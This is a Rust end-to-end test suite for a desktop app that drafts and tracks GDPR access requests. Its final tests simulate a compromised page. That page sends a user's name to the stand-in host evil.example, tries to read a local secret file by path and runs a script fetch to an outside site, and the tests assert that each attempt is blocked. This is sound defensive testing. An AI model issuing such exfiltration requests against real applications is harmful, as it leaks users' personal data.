//! Journeys in the real window: what a person does and sees, and the files they end up with.

#![expect(
    clippy::unwrap_used,
    clippy::panic,
    unreachable_pub,
    reason = "a test fails by a panic; nothing here is public"
)]

mod after_lock;
mod answers;
mod app;
mod batch;
mod begin;
mod behalf;
mod case;
mod desktop;
mod directory;
mod evidence;
mod fake_desktop;
mod follow;
mod hands;
mod home;
mod identity;
mod keyboard;
mod many;
mod opened_with;
mod outside;
mod post;
mod print;
mod processes;
mod repair;
mod search;
mod set_back;
mod signature;
mod statistics;
mod steps;
mod traces;
mod trail;
mod vaults;
mod views;

use app::App;
use home::Home;
use serde_json::json;
use std::path::Path;
use steps::{PASSPHRASE, answer_to, begin_with_notice, make_vault, notice, record, unlock, unlock_with, write_letter};

/// What their own notice says stands beside what they sent.
async fn claims(app: &App) {
    app.click("[data-test=paper-notice]").await;
    app.reads("notice").await;
    app.click("[data-test=claims] summary").await;
    app.find("[data-test=claims] dt").await;
    app.look("request-answered").await;
}

/// Writes the bundle, after the system showed where to and was told yes.
async fn export(app: &App, home: &Home) {
    home.will_save(&home.path("saved/case.zip"));
    home.will_confirm();
    app.click("[data-test=deed-export] button").await;
    app.reads("The bundle is written.").await;
    assert!(home.asked().contains("case.zip"), "the place of a bundle is shown before it is written");
}

/// Another drop adds to the list of files, in which an empty one is named as such before it is taken.
async fn an_empty_file_is_named(app: &App, home: &Home) {
    app.gone("[data-test=file-empty]").await;
    app.drop_file(home, &home.write("nothing.pdf", b"")).await;
    app.find("[data-test=file-empty]").await;
    app.reads("This file is empty. If something should be in it, copy or ask for it again and take that one.").await;
    app.look("file-empty").await;
    app.click("button[aria-label='Remove nothing.pdf']").await;
    app.gone("[data-test=file-empty]").await;
    app.lacks("nothing.pdf").await;
}

/// The whole way on one notice: compose on one day, come back three days later, record, store, export.
async fn whole_journey(home: &Home, notice: &Path, letter_language: &str, expected: &[&str]) {
    let app = App::start(home, "2026-11-23", "en").await;
    app.look("first-start").await;
    make_vault(&app).await;
    app.reads("Write your first request").await;
    app.look("today-empty").await;
    begin_with_notice(&app, home, notice).await;
    app.find("[data-test=notice-text] a[data-field~=name]").await;
    app.look("notice").await;
    write_letter(&app, letter_language).await;
    app.look("request-written").await;
    home.will_save(&home.path("saved/letter.pdf"));
    app.click("[data-test=save-pdf]").await;
    home.saved("saved/letter.pdf").await;
    app.reads("letter.pdf").await;
    app.close(home).await;

    let text = outside::pdf_text(&home.path("saved/letter.pdf"));
    for words in expected {
        assert!(text.contains(words), "“{words}” is not in the letter:\n{text}");
    }
    outside::fonts_are_embedded(&home.path("saved/letter.pdf"));

    let app = App::start(home, "2026-11-26", "en").await;
    app.lacks("Dixième").await;
    assert_eq!(app.title().await, "Habeas");
    app.look("locked").await;
    unlock(&app).await;
    app.reads("Today").await;
    app.press("Requests").await;
    app.find("[data-test=status][data-status=written]").await;
    app.look("requests").await;
    record(&app, "sent", Some("2026-11-24")).await;
    app.find("[data-test=status][data-status=sent]").await;
    record(&app, "received", Some("2026-11-26")).await;
    app.find("[data-test=status][data-status=running]").await;
    app.reads("must answer by Monday 28 December 2026").await;
    app.click("[data-test=why] summary").await;
    app.reads("26 December 2026 is a Saturday, then Sunday, so Monday 28 December 2026").await;
    app.look("request-running").await;

    let answer = b"From: dpo@example.org\r\nSubject: Your request\r\n\r\nAll we have.\x00\xff\r\n";
    app.click("[data-test=next-step]").await;
    app.find("[data-test=answer-form] [data-test=choose-files]").await;
    app.drop_file(home, &home.write("answer.eml", answer)).await;
    app.reads("answer.eml").await;
    an_empty_file_is_named(&app, home).await;
    app.click("[data-test=answer-confirm]").await;
    app.find("[data-test=status][data-status=answered]").await;
    claims(&app).await;
    home.will_save(&home.path("saved/again.eml"));
    app.click("[data-test=timeline] button[aria-label*='answer.eml']").await;
    app.reads("again.eml").await;
    assert_eq!(home.saved("saved/again.eml").await, answer);

    app.press("Archive").await;
    export(&app, home).await;
    app.click("[data-test=deed-check] button").await;
    app.reads("Everything is in order.").await;
    app.look("archive").await;
    app.close(home).await;

    let bag = outside::valid_bag(&home.path("saved/case.zip"), &home.path("unzipped"));
    let kept = outside::find_file(&bag, "answer.eml").unwrap();
    assert_eq!(std::fs::read(kept).unwrap(), answer);
    assert_eq!(
        std::fs::read(outside::find_file(&bag, "letter.pdf").unwrap()).unwrap(),
        std::fs::read(home.path("saved/letter.pdf")).unwrap()
    );
    outside::nothing_in_the_clear(&home.path("vault"), &["Müller", "Lilas", "All we have", "appointment"]);
    outside::nothing_in_the_clear(&home.path("home"), &["Müller", "Lilas", "All we have", "appointment"]);
}

#[tokio::test(flavor = "multi_thread")]
async fn from_first_start_to_an_exported_bundle() {
    let home = Home::new();
    let expected = [
        "Brume Claire",
        "14 rue des Tanneurs",
        "69005 Lyon",
        "Zoë Müller-Łęcka",
        "Paris, 23 November 2026",
        "Article 15 GDPR",
        "page 1 of 2",
    ];
    whole_journey(&home, &notice(), "en", &expected).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_same_on_a_real_notice_in_french() {
    let Some(notice) = habeas_tests::shared("seeds/000_22170fabb8d73604.txt") else { return };
    let expected = [
        "Un Dixième",
        "BAKUP",
        "20 bis rue Louis Philippe",
        "92200 Neuilly",
        "article 15",
        "RGPD",
        "Paris, le 23 novembre 2026",
        "page 1 sur 2",
    ];
    whole_journey(&Home::new(), &notice, "fr", &expected).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn mistakes_are_said_beside_their_field_and_lose_nothing() {
    let home = Home::new();
    let app = App::start(&home, "2026-11-23", "en").await;
    app.type_into("[name=passphrase]", PASSPHRASE).await;
    app.type_into("[name=again]", "something else").await;
    app.click("form button[type=submit]").await;
    app.reads("The two are not the same.").await;
    app.click("label.show input").await;
    app.click("form button[type=submit]").await;
    app.press("New request").await;

    // An unreadable notice, let go over the window, is refused beside its field, and pasting helps.
    app.find("[data-test=step-who]").await;
    app.drop_file(&home, &home.write("scan.pdf", b"%PDF-1.7\n1 0 obj\n")).await;
    app.reads("No text can be read from this PDF.").await;
    app.type_into("[name=source]", "We respect your privacy. You have the right of access to your data.").await;
    app.click("[data-test=go-on]").await;

    // Nobody is named: going on is refused until the person says who it is.
    app.find("[data-test=step-notice]").await;
    app.reads("The text does not name the company behind it.").await;
    app.click("[data-test=go-on]").await;
    app.reads("There is nobody this letter could be sent to.").await;
    app.look("no-addressee").await;
    app.close(&home).await;

    // The draft is still there at the next start, and a wrong passphrase says so.
    let app = App::start(&home, "2026-11-23", "en").await;
    unlock_with(&app, "wrong").await;
    app.reads("This passphrase does not open the vault.").await;
    unlock(&app).await;
    app.find("[data-test=draft]").await;
    app.look("draft").await;
    app.close(&home).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn the_window_in_french_and_locked() {
    let home = Home::new();
    let app = App::start(&home, "2026-11-23", "fr").await;
    app.press("Français").await;
    app.reads("Créez votre coffre").await;
    app.look("first-start-fr").await;
    make_vault(&app).await;
    app.press("Nouvelle demande").await;
    app.find("[data-test=step-who]").await;
    app.look("who-fr").await;
    steps::lock(&app).await;
    assert_eq!(app.title().await, "Habeas");
    app.close(&home).await;
}

/// A page that was subverted cannot send anything to the web, whatever it calls: only the user's yes lets an address out.
async fn sends_nothing(app: &App, home: &Home) {
    let source = json!({ "source": { "url": "https://evil.example/?q=M%C3%BCller" } });
    // A command that reads no notice asks for no page, and takes no such member.
    let answer = answer_to(app, "person_list", source.clone()).await;
    assert_eq!(answer["error"]["code"], "bad_input", "{answer}");
    assert_eq!(home.asked(), "");
    let answer = answer_to(app, "notice_read", source.clone()).await;
    assert_eq!(answer["error"]["code"], "cancelled", "{answer}");
    let asked = home.asked();
    assert!(asked.contains("evil.example") && asked.contains("/?q=M%C3%BCller"), "{asked}");
    let long = json!({ "source": { "url": format!("https://evil.example/{}", "x".repeat(500)) } });
    let answer = answer_to(app, "notice_read", long).await;
    assert_eq!(answer["error"]["code"], "bad_input", "{answer}");
    assert_eq!(home.asked(), "", "an address that no dialog shows whole is not asked about");
    // Nor while the vault is locked, where nobody is even asked.
    home.will_confirm();
    let answer = answer_to(app, "vault_lock", json!(null)).await;
    assert!(answer["error"].is_null(), "{answer}");
    for (name, payload) in [
        ("notice_read", source),
        ("notice_read", json!({ "source": { "text": "A notice." } })),
        ("dialog_open", json!({ "purpose": "notice", "multiple": false })),
        ("dialog_save", json!({ "suggested": "x" })),
        ("dropped_files", json!(null)),
        ("diagnostics_save", json!({ "out": { "handle": 1 } })),
        ("identity_picture", json!({ "picture": { "handle": 1 } })),
        ("bundle_verify", json!({ "file": { "handle": 1 } })),
    ] {
        let answer = answer_to(app, name, payload).await;
        assert_eq!(answer["error"]["code"], "locked", "{name}: {answer}");
    }
    assert_eq!(home.asked(), "");
    std::fs::remove_file(home.path("dialogs/confirm")).unwrap();
    let answer = answer_to(app, "vault_open", json!({ "passphrase": PASSPHRASE })).await;
    assert!(answer["error"].is_null(), "{answer}");
}

/// The page cannot read files, follow links or run what is not its own.
#[tokio::test(flavor = "multi_thread")]
async fn the_page_is_shut_in() {
    let home = Home::new();
    let app = App::start(&home, "2026-11-23", "en").await;
    make_vault(&app).await;
    app.reads("Write your first request").await;
    let secret = home.write("secret.txt", "a passport");
    let answer = answer_to(&app, "notice_read", json!({ "source": { "file": { "path": secret } } })).await;
    assert_eq!(answer["error"]["code"], "bad_input", "{answer}");
    assert!(answer["error"]["message"].as_str().unwrap().contains("not chosen in a dialog"), "{answer}");
    let answer = answer_to(&app, "bundle_export", json!({ "requests": [], "out": { "handle": 7 } })).await;
    assert!(answer["error"]["code"].is_string(), "{answer}");
    sends_nothing(&app, &home).await;
    let fetched = "const done = arguments[arguments.length - 1];\
                   fetch('https://example.org/').then(() => done('reached'), () => done('blocked'));";
    assert_eq!(app.script_async(fetched).await, "blocked");
    app.script("location.href = 'https://example.org/';").await;
    app.reads("Write your first request").await;
    assert!(app.script("return location.href;").await.as_str().unwrap().starts_with("tauri://"));
    app.close(&home).await;
}
